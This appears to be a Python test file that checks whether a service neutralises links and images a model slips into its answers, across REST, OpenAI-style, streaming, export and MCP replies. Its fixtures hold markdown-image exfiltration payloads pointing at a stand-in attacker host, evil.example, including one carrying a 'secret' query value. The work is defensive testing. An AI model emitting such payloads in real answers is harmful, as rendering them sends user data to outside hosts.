"""What a model smuggles into its answer is dead in every reply: REST, OpenAI's protocol, MCP."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from mcp import Client

from core.api.openai_compatible import contents
from core.types import Answer, Citation, TextPiece
from tests.api.server import WHO, Person, World
from tests.api.test_asking import events_of
from tests.mcp.test_client import called, over_http
from tests.standins.scripts import Reply
from tests.text.test_inert import live

pytestmark = pytest.mark.E16

WRITTEN = (
    "The lighthouse of Port Amber was built in 1874 by Ida Holm [Source 1]. "
    "![x](https://evil.example/p.png?q=secret) See [the archive](https://evil.example/a)."
)
SOURCES = (Citation(1, "d:0", "d", "a.txt", None, 0, None, 0, 9, "It is so."),)
MODEL = {"provider": "openai", "model": "standin"}


@pytest.fixture
def lured(world: World) -> Iterator[World]:
    """The server, whose model writes what it should not."""
    world.model.queue(Reply("text", text=WRITTEN, times=None))
    yield world
    world.model.queue(Reply("quote", times=None))


def is_dead(text: str) -> bool:
    """Whether the links are there, and none of them is live."""
    return "evil.example" in text and "https://evil" not in text and live(text) == []


def test_whole(lured: World, ida: Person) -> None:
    got = ida.query(WHO, **MODEL)
    assert is_dead(got["answer"])
    assert is_dead(got["answer_without_citations"])
    assert is_dead(got["answer_with_links"])
    cited = [claim for claim in got["claims"] if claim["numbers"]]
    first = got["answer"][cited[0]["start"] : cited[0]["end"]]
    assert first.startswith("The lighthouse of Port Amber")
    for claim in got["claims"]:
        assert got["answer"][claim["start"] : claim["end"]].strip() in got["answer"]
    assert any("archive" in got["answer"][c["start"] : c["end"]] for c in got["claims"])


def test_streamed(lured: World, ida: Person) -> None:
    events = events_of(ida, **MODEL)
    written = "".join(data["text"] for name, data in events if name == "text")
    assert is_dead(written)
    assert written == events[-1][1]["answer"]


@pytest.mark.parametrize("stream", [False, True])
def test_by_the_protocol_of_openai(lured: World, ida: Person, stream: bool) -> None:
    body: dict[str, Any] = {
        "model": f"session-{ida.session_id}",
        "messages": [{"role": "user", "content": WHO}],
        "stream": stream,
    }
    models = ida.client.get("/v1/models").json()["data"]
    body["model"] = next(m["id"] for m in models if ida.session_id in m["id"])
    session = lured.service.sessions.get(lured.service.owners.for_token("ida"), ida.session_id)
    lured.service.sessions.set_preferences(session, {"model": MODEL})
    try:
        reply = ida.client.post("/v1/chat/completions", json=body)
    finally:
        lured.service.sessions.set_preferences(session, {"model": None})
    if stream:
        lines = [line.removeprefix("data: ") for line in reply.text.splitlines() if "{" in line]
        choices = [c for line in lines for c in json.loads(line)["choices"]]
        text = "".join(choice["delta"].get("content") or "" for choice in choices)
    else:
        text = reply.json()["choices"][0]["message"]["content"]
    assert is_dead(text.partition("Sources:")[0]), text
    assert "Sources:" in text


def test_thinking_that_leaves_code_open_makes_nothing_live() -> None:
    said = "~~~\n[x](https://evil.example)\n"
    pieces = [TextPiece("~~~\nHm"), TextPiece("", withdraws=True), TextPiece(said)]
    got = list(contents(iter([*pieces, Answer(WHO, said, SOURCES)])))
    text = "".join(piece for piece, _ in got)
    assert live(text) == []
    assert text.endswith("\n~~~\n\nSources:\n- [1] a.txt: “It is so.”")
    assert [answer is not None for _, answer in got] == [False, False, False, True]


def test_kept_and_exported(lured: World, ida: Person) -> None:
    root = f"/sessions/{ida.session_id}/conversations"
    talk = ida.client.post(root, json={"title": "![t](https://evil.example/t)"}).json()["id"]
    ida.query(WHO, conversation_id=talk, **MODEL)
    kept = ida.client.get(f"{root}/{talk}").json()["messages"][-1]["text"]
    assert is_dead(kept)
    data = ida.client.get(f"{root}/{talk}/export", params={"format": "json"}).json()
    assert is_dead(data["messages"][-1]["text"])
    markdown = ida.client.get(f"{root}/{talk}/export", params={"format": "markdown"}).text
    assert live(markdown) == []


def test_by_mcp(lured: World, ida: Person) -> None:
    session = lured.service.sessions.get(lured.service.owners.for_token("ida"), ida.session_id)
    lured.service.sessions.set_preferences(session, {"model": MODEL})

    async def work(client: Client) -> None:
        answer = await called(client, "ask", question=WHO, session_id=ida.session_id)
        assert is_dead(answer["answer"])

    try:
        over_http(lured.url, ida.key, work)
    finally:
        lured.service.sessions.set_preferences(session, {"model": None})
